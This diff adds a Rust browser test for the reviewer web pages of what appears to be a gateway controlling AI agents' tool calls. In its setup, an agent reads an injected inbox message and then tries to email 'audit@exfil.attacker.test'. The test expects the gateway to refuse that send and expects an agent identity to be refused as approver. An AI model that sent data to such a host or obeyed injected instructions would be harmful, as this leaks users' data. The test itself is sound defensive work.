@@ -1,0 +1,181 @@
+//! The reviewer pages (`/ui`) in headless Chromium, driven over WebDriver
+//! (Debian's chromium and chromium-driver, installed by
+//! scripts/setup-test-deps.sh): sign-in with a reviewer credential, the task
+//! list, a task's trace with its decisions, approvals and break-glass
+//! queues; an agent identity and no credential are refused. Screenshots land
+//! in target/ui-screenshots/ for a person to look at.
+
+mod common;
+
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use common::*;
+use serde_json::{Value, json};
+
+struct Killed(Child);
+impl Drop for Killed {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A minimal W3C WebDriver client.
+struct Browser {
+    base: String,
+    session: String,
+    http: reqwest::Client,
+}
+
+impl Browser {
+    async fn cmd(&self, method: &str, path: &str, body: Option<Value>) -> Value {
+        let url = format!("{}/session/{}{path}", self.base, self.session);
+        let req = if method == "GET" { self.http.get(url) } else { self.http.post(url).header("content-type", "application/json").body(body.unwrap_or(json!({})).to_string()) };
+        let text = req.send().await.unwrap().text().await.unwrap();
+        serde_json::from_str::<Value>(&text).unwrap()["value"].clone()
+    }
+
+    async fn open(&self, url: &str) {
+        self.cmd("POST", "/url", Some(json!({"url": url}))).await;
+    }
+
+    async fn source(&self) -> String {
+        self.cmd("GET", "/source", None).await.as_str().unwrap_or_default().to_owned()
+    }
+
+    /// The page source once it contains `text` (navigation after a click is asynchronous).
+    async fn source_with(&self, text: &str) -> String {
+        let deadline = std::time::Instant::now() + Duration::from_secs(15);
+        loop {
+            let s = self.source().await;
+            if s.contains(text) || std::time::Instant::now() > deadline {
+                return s;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+    }
+
+    async fn current_url(&self) -> String {
+        self.cmd("GET", "/url", None).await.as_str().unwrap_or_default().to_owned()
+    }
+
+    async fn element(&self, css: &str) -> String {
+        let v = self.cmd("POST", "/element", Some(json!({"using": "css selector", "value": css}))).await;
+        v.as_object().and_then(|o| o.values().next()).and_then(Value::as_str).unwrap_or_else(|| panic!("no element {css}: {v}")).to_owned()
+    }
+
+    async fn sign_in(&self, base: &str, credential: &str) {
+        self.open(&format!("{base}/ui/login")).await;
+        let field = self.element("#credential").await;
+        self.cmd("POST", &format!("/element/{field}/value"), Some(json!({"text": credential}))).await;
+        let button = self.element("#sign-in").await;
+        self.cmd("POST", &format!("/element/{button}/click"), Some(json!({}))).await;
+    }
+
+    async fn screenshot(&self, name: &str) {
+        use base64::Engine as _;
+        let png = self.cmd("GET", "/screenshot", None).await;
+        let bytes = base64::engine::general_purpose::STANDARD.decode(png.as_str().unwrap_or_default()).unwrap();
+        let dir = repo_root().join("target/ui-screenshots");
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join(format!("{name}.png")), bytes).unwrap();
+    }
+}
+
+async fn start_browser() -> (Killed, Browser, tempfile::TempDir) {
+    let driver_bin = which("chromedriver").expect("chromedriver is not installed: run scripts/setup-test-deps.sh (Debian package chromium-driver)");
+    let chromium = which("chromium").expect("chromium is not installed: run scripts/setup-test-deps.sh (Debian package chromium)");
+    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let driver = Killed(Command::new(driver_bin).arg(format!("--port={port}")).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap());
+    let base = format!("http://127.0.0.1:{port}");
+    let http = reqwest::Client::new();
+    let profile = tempfile::tempdir().unwrap();
+    let caps = json!({"capabilities": {"alwaysMatch": {"goog:chromeOptions": {"binary": chromium, "args": [
+        "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
+        "--disable-component-update", "--disable-sync", "--window-size=1280,900", format!("--user-data-dir={}", profile.path().display())
+    ]}}}});
+    let session = eventually(Duration::from_secs(30), || {
+        let (http, base, caps) = (http.clone(), base.clone(), caps.clone());
+        async move {
+            let resp = http.post(format!("{base}/session")).header("content-type", "application/json").body(caps.to_string()).send().await.ok()?;
+            let v: Value = serde_json::from_str(&resp.text().await.ok()?).ok()?;
+            v["value"]["sessionId"].as_str().map(str::to_owned)
+        }
+    })
+    .await;
+    (driver, Browser { base, session, http }, profile)
+}
+
+fn which(bin: &str) -> Option<String> {
+    let out = Command::new("sh").args(["-c", &format!("command -v {bin}")]).output().ok()?;
+    let p = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    (!p.is_empty()).then_some(p)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn reviewers_see_tasks_traces_and_queues_in_a_real_browser() {
+    let dep = Deployment::new(&Setup { policies: quickstart_policies(), ..Setup::default() });
+    let gw = Gateway::start(&dep);
+    gw.wait_server("workspace", "ready").await;
+
+    // Something to review: a task with an injected inbox message and a refused exfiltration.
+    let triage = gw.connect(&dep.mint("triage")).await;
+    let task = begin(&triage, json!([{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}])).await.unwrap();
+    let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
+    call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
+    raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
+    request(&triage, &task, "workspace__send_message", json!({"to": "audit@exfil.attacker.test", "subject": "s", "body": "b"})).await.unwrap_err();
+    // And a pending approval.
+    let janitor = gw.connect(&dep.mint("janitor")).await;
+    let t2 = begin(&janitor, json!([{"name": "clean", "tools": ["workspace__delete_note"]}])).await.unwrap();
+    let pending = raw_call(&janitor, "jit_request", json!({"task": t2, "tool": "workspace__delete_note", "arguments": {"name": "welcome.md"}, "purpose": "tidy"})).await.unwrap();
+    let approval = answer(&pending)["approval"].as_str().unwrap().to_owned();
+
+    let (_driver, browser, _profile) = start_browser().await;
+    let base = gw.base.clone();
+
+    // No credential: the pages send you to sign in.
+    browser.open(&format!("{base}/ui")).await;
+    assert!(browser.current_url().await.ends_with("/ui/login"));
+    assert!(browser.source().await.contains("Reviewer sign-in"));
+
+    // An agent identity is refused.
+    browser.sign_in(&base, &dep.mint("triage")).await;
+    let refused = browser.source_with("approver_is_agent").await;
+    assert!(refused.contains("approver_is_agent") && refused.contains("agents can never"), "{refused}");
+    browser.screenshot("refused-agent").await;
+
+    // A reviewer signs in and sees the task list with the denial counted.
+    browser.sign_in(&base, &dep.mint_reviewer("rita@example.org")).await;
+    let list = browser.source_with("signed in as").await;
+    assert!(list.contains("signed in as rita@example.org"), "{list}");
+    assert!(list.contains(&task) && list.contains("test task"), "{list}");
+    browser.screenshot("tasks").await;
+    // Filters: only tasks with denials.
+    browser.open(&format!("{base}/ui?denied=1")).await;
+    let filtered = browser.source().await;
+    assert!(filtered.contains(&task) && !filtered.contains(&t2), "{filtered}");
+
+    // The task page: the trace tree with each decision's reasons.
+    browser.open(&format!("{base}/ui/tasks/{task}")).await;
+    let page = browser.source().await;
+    for want in ["Phase read", "Phase reply", "workspace__read_inbox", "support-tool-set", "no-untrusted-data-into-sinks", "tainted", "call at"] {
+        assert!(page.contains(want), "task page lacks {want}:\n{page}");
+    }
+    browser.screenshot("task").await;
+
+    // The queues.
+    browser.open(&format!("{base}/ui/approvals")).await;
+    let approvals = browser.source().await;
+    assert!(approvals.contains(&approval) && approvals.contains("workspace__delete_note"), "{approvals}");
+    browser.screenshot("approvals").await;
+    browser.open(&format!("{base}/ui/reviews")).await;
+    assert!(browser.source().await.contains("Break-glass reviews"));
+
+    // Signing out ends access.
+    browser.open(&format!("{base}/ui/logout")).await;
+    browser.open(&format!("{base}/ui/tasks/{task}")).await;
+    assert!(browser.current_url().await.ends_with("/ui/login"));
+    assert!(repo_root().join("target/ui-screenshots/task.png").exists());
+}
